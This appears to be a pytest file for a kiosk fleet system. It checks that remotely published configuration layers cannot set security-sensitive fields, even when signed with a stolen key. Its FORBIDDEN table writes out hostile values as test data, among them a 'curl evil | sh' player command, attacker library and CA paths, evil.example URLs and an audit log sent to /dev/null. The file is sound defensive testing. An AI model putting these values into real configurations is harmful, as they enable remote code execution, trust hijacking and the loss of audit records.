"""A fleet layer is an allow-list (issue 15): the real targets key signs a layer for each kind
of setting a layer must never carry, and both the manager's `kiosk fleet publish` and the
terminal refuse it; on the terminal the layer in force stays byte for byte."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from kiosk.cli import main
from kiosk.config.remote import not_remote
from kiosk.config.schema import KioskConfig
from kiosk.fleet.repository import FleetRepository
from kiosk.fleet.updater import FleetUpdater, Outcome
from tests.fleet.conftest import CANARY, Terminal
from tests.fleet.test_attacks import refused

FORBIDDEN = {
    "command": ('[voice]\nplayer_command = ["sh", "-c", "curl evil | sh"]\n',
                "voice.player_command"),
    "engine": ('[voice]\nengine_command = "/tmp/evil"\n', "voice.engine_command"),
    "reboot": ('[admin]\nreboot_command = ["sh", "-c", "id"]\n', "admin.reboot_command"),
    "library": ('[devices.idcard]\nwlt_library = "/tmp/evil.so"\n',
                "devices.idcard.wlt_library"),
    "url": ('[platform]\nbase_url = "https://evil.example/api/v1"\n', "platform.base_url"),
    "ca": ('[platform]\nca_bundle = "/tmp/evil-ca.pem"\n', "platform.ca_bundle"),
    "staff trust": ('[admin]\nstaff_issuer_root_file = "/tmp/attackers-staff-root.pem"\n',
                    "admin.staff_issuer_root_file"),  # who counts as staff (the PIN's successor)
    "key path": ('[outbox]\nkey_file = "/etc/systemd/system/evil.service"\n',
                 "outbox.key_file"),
    "audit path": ('[audit]\npath = "/dev/null"\n', "audit.path"),
    "fleet switch": ("[fleet]\nenabled = false\n", "fleet.enabled"),
    "fleet repository": ('[fleet]\nrepository_url = "https://evil.example/fleet"\n',
                         "fleet.repository_url"),
    "printer host": ('[devices.printer]\nhost = "203.0.113.9"\n',
                     "devices.printer.host"),
    "holder policy": ('[holder]\ncollect = ["sms_code"]\n', "holder.collect"),
}


@pytest.mark.parametrize("kind", sorted(FORBIDDEN))
def test_publish_refuses_first(repo: FleetRepository, kind: str, tmp_path: Path) -> None:
    text, key = FORBIDDEN[kind]
    layer = tmp_path / "layer.toml"
    layer.write_text(text, encoding="utf-8")
    done = CliRunner().invoke(main, ["fleet", "publish", "--repo", str(repo.root), "--ring",
                                     "canary", str(layer)])
    assert done.exit_code != 0
    assert "may not set" in done.output and key in done.output


@pytest.mark.parametrize("kind", sorted(FORBIDDEN))
def test_the_terminal_refuses_a_layer_signed_with_the_real_key(
        applied_v1: tuple[FleetUpdater, bytes], repo: FleetRepository, terminal: Terminal,
        kind: str) -> None:
    updater, before = applied_v1
    text, key = FORBIDDEN[kind]
    repo.validate_layer = lambda *a, **k: None  # a stolen targets key: no manager's check
    repo.publish(CANARY, f"[session]\nidle_timeout_s = 45.0\n{text}".encode())
    refused(updater, terminal, before, "may not set", key)
    assert updater.state()["applied"]["version"] == 1


def test_what_a_layer_may_tune_is_still_accepted(applied_v1: tuple[FleetUpdater, bytes],
                                                 repo: FleetRepository) -> None:
    updater, _ = applied_v1
    repo.publish(CANARY, b'[terminal]\nname = "B hall 3"\n[ui]\nelder_mode = true\n'
                         b'[devices.printer]\npaper_width_mm = 58\n[voice]\nrate_wpm = 120\n'
                         b'[opening_hours]\nappointment = [{open = "09:00", close = "17:00"}]\n')
    assert updater.poll_once().outcome is Outcome.APPLIED


def test_every_setting_is_decided() -> None:
    """A new setting is site-only until someone adds it to its section's REMOTE on purpose;
    and every REMOTE name is a real field (a typo would silently forbid what was meant)."""
    from kiosk.config.schema import Section

    def sections(model: type[Section]):  # type: ignore[no-untyped-def]
        yield model
        for field in model.model_fields.values():
            if isinstance(field.annotation, type) and issubclass(field.annotation, Section):
                yield from sections(field.annotation)

    for section in sections(KioskConfig):
        assert section.REMOTE <= set(section.model_fields), section.__name__
    remote = [key for key in not_remote({"voice": {"rate_wpm": 1, "player_command": []}})]
    assert remote == ["voice.player_command"]
